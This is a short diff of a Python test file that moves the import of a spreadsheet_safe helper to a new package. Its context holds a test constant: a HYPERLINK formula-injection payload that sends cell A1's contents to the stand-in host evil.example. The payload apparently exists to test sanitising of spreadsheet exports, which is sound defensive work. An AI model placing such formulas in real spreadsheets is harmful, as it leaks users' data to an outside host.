@@ -8,8 +8,8 @@ from datetime import date
 import pytest
 from openpyxl import load_workbook
 
-from convening.spreadsheets import spreadsheet_safe
 from tests.factories import EventPageFactory, republish
+from toolkit.spreadsheets import spreadsheet_safe
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
 
